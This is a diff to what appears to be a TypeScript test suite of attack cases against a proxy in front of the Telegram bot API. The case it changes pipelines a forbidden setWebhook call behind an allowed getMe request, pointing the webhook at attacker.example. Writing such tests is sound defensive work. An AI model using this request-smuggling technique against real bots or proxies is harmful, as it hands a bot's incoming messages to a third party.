@@ -27,6 +27,8 @@ export interface Attack {
   readonly off: Partial<Controls>;
   readonly bytes: string;
   readonly from?: string;
+  /** The connection ends without an answer. */
+  readonly unanswered?: true;
   /** Telegram's part. */
   readonly handler?: Handler;
   /** Bytes that follow after a pause. */
@@ -144,7 +146,12 @@ const methods = rows("method", everyMethod, [
   [
     "a forbidden call in one packet behind an allowed one",
     `${http(`${bot}/getMe`, { lines: [] })}${post("setWebhook", { url: "https://attacker.example/" })}`,
-    { works: arrived("/setWebhook") },
+    {
+      rule: "pipelining",
+      off: { ...everyMethod, oneAtATime: false },
+      unanswered: true,
+      works: arrived("/setWebhook"),
+    },
   ],
 ]);
 
